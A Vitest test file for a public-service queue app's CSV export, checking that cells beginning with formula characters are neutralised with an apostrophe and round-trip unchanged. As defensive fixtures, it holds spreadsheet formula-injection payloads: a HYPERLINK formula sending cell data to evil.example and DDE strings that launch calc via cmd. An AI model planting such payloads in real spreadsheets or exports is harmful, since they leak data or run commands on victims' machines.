import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText, neutraliseCell, restoreCell } from '../../src/services/csv-cells';
import { buildTestApp, issue, login, staffAtCounter } from '../helper';

const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of a CSV download (byte-order mark and blank lines between tables dropped). */
function cellsOf(body: string): string[] {
  return Papa.parse<string[]>(body.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data.flat();
}

describe('CSV cells never start a formula', () => {
  it('guards text starting with =, +, -, @, tab or CR with an apostrophe, and only that', () => {
    const cases: [string | number | null, string | number | null][] = [
      ['=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'],
      ['+84 912 345 678', "'+84 912 345 678"],
      ['- Lệ phí: 8.000 đồng', "'- Lệ phí: 8.000 đồng"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\tcmd', "'\tcmd"],
      ['\rcmd', "'\rcmd"],
      ['Đăng ký khai sinh', 'Đăng ký khai sinh'],
      [' =1+1', ' =1+1'],
      ["'=written as is", "''=written as is"],
      ["'plain", "'plain"],
      ['', ''],
      [-5, -5],
      [12.5, 12.5],
      [null, null],
    ];
    for (const [input, output] of cases) expect(neutraliseCell(input), JSON.stringify(input)).toBe(output);
    for (const [input] of cases) if (typeof input === 'string') expect(restoreCell(String(neutraliseCell(input))), JSON.stringify(input)).toBe(input);
    const csv = csvText([['=1+1', -3, null, 'a,"b"']], ['@Tên', 'Số', 'Trống', 'Ghi chú']);
    expect(csv).toBe('\'@Tên,Số,Trống,Ghi chú\r\n\'=1+1,-3,,"a,""b"""');
  });
});

describe('CSV exports: reports and the catalog write no live formula; the catalog CSV still imports back unchanged', () => {
  let t: Awaited<ReturnType<typeof buildTestApp>>;
  let admin = '';
  const NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
  beforeAll(async () => {
    t = await buildTestApp();
    admin = await login(t.app, 'admin');
  });
  afterAll(async () => {
    await t.close();
  });

  it('queue and satisfaction reports: a service or officer name cannot run in Excel', async () => {
    // A service's row reads "A – <name>" (safe); an officer's row is the name alone.
    t.app.db.prepare('UPDATE services SET name_vi = ? WHERE id = 1').run(NAMES[0]);
    t.app.db.prepare("UPDATE users SET full_name = ? WHERE username = 'canbo1'").run(NAMES[1]);
    const staff = await staffAtCounter(t.app, 'canbo1', 1);
    for (let i = 0; i < 2; i++) expect((await issue(t.app, 1)).status).toBe(201);
    for (let i = 0; i < 2; i++) expect((await t.app.inject({ method: 'POST', url: '/api/counters/1/call-next', headers: { cookie: staff } })).statusCode).toBe(200);
    for (const [report, query] of [
      ['queue', 'groupBy=service'],
      ['queue', 'groupBy=staff'],
      ['satisfaction', ''],
    ]) {
      const res = await t.app.inject({ url: `/api/reports/${report}?from=2026-11-23&to=2026-11-23&${query}&format=csv`, headers: { cookie: admin } });
      expect(res.statusCode, `${report} ${query}`).toBe(200);
      const cells = cellsOf(res.body);
      expect(cells.filter((c) => FORMULA.test(c)), `${report} ${query}`).toEqual([]);
      if (query === 'groupBy=service') expect(cells).toContain(`A – ${NAMES[0]}`);
      if (query === 'groupBy=staff') expect(cells).toContain(`'${NAMES[1]}`);
    }
  });

  it('catalog: names and fee lines are guarded in the CSV and come back as they were when it is imported', async () => {
    const exported = await t.app.inject({ url: '/api/admin/catalog/export?format=json', headers: { cookie: admin } });
    const file = exported.json() as { fields: unknown[]; procedures: { name: string }[] };
    NAMES.forEach((name, i) => {
      const p = file.procedures[i];
      if (p) p.name = name;
    });
    const imported = await t.app.inject({ method: 'POST', url: '/api/admin/catalog/import', headers: { cookie: admin }, payload: file });
    expect(imported.statusCode, imported.body).toBe(200);
    const names = () => (t.app.db.prepare('SELECT name FROM procedures ORDER BY id').all() as { name: string }[]).map((r) => r.name);
    const before = names();
    for (const n of NAMES) expect(before).toContain(n);

    const csv: Record<string, string> = {};
    for (const sheet of ['procedures', 'documents', 'fields']) {
      const res = await t.app.inject({ url: `/api/admin/catalog/export?format=csv&sheet=${sheet}`, headers: { cookie: admin } });
      csv[sheet] = res.body;
      expect(cellsOf(res.body).filter((c) => FORMULA.test(c)), sheet).toEqual([]);
    }
    const cells = cellsOf(csv.procedures ?? '');
    for (const n of NAMES) expect(cells).toContain(`'${n}`);

    const back = await t.app.inject({ method: 'POST', url: '/api/admin/catalog/import/csv', headers: { cookie: admin }, payload: csv });
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toMatchObject({ skipped: 0, errors: [] });
    expect(names()).toEqual(before);
  });
});
